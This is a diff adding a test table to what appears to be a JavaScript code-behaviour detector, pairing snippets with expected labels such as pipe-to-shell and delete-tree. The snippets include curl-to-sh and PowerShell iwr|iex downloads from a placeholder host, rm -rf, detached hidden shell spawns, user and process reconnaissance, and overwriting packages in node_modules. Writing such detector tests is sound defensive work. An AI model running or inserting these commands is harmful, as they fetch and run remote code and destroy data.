@@ -751,3 +751,42 @@ table('JavaScript: decoders asked often', [
     'decrypt | evaluate-decoded',
   ],
 ]);
+
+table('JavaScript: commands', [
+  [
+    'a template of Bun',
+    'await Bun.$`curl -s https://host.invalid/x | sh`.quiet()',
+    'run-shell | pipe-to-shell to:other',
+  ],
+  ['a template of Bun, imported', "import { $ } from 'bun'; await $`whoami`", 'run-shell | read-user-name'],
+  [
+    'a template with a value',
+    "import { $ } from 'zx'; const d = 'dist'; await $`rm -rf ${d}`",
+    'run-shell | delete-tree',
+  ],
+  [
+    'how Bun starts a program',
+    "Bun.spawn(['sh', '-c', 'id'], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] })",
+    'run-program detached quiet program:shell',
+  ],
+  [
+    'how Bun starts a program, in one object',
+    "Bun.spawn({ cmd: ['sh', '-c', 'id'] })",
+    'run-program program:shell',
+  ],
+  [
+    'one command here, another there',
+    `let c; if (process.platform === 'win32') c = 'powershell -c "iwr https://host.invalid/x | iex"'; else c = 'curl https://host.invalid/x | bash'; ${CP}.exec(c)`,
+    'run-shell program:powershell | evaluate-downloaded | run-shell program:download | pipe-to-shell',
+  ],
+  [
+    'one program here, another there',
+    `${CP}.spawn(process.platform === 'win32' ? 'tasklist' : 'whoami', ['-a'])`,
+    'read-process-list | read-user-name',
+  ],
+  [
+    'other packages, named by a folder',
+    "const fs = require('fs'); for (const n of fs.readdirSync('node_modules')) fs.writeFileSync('node_modules/' + n + '/index.js', 'x')",
+    'modify-package path:package',
+  ],
+]);
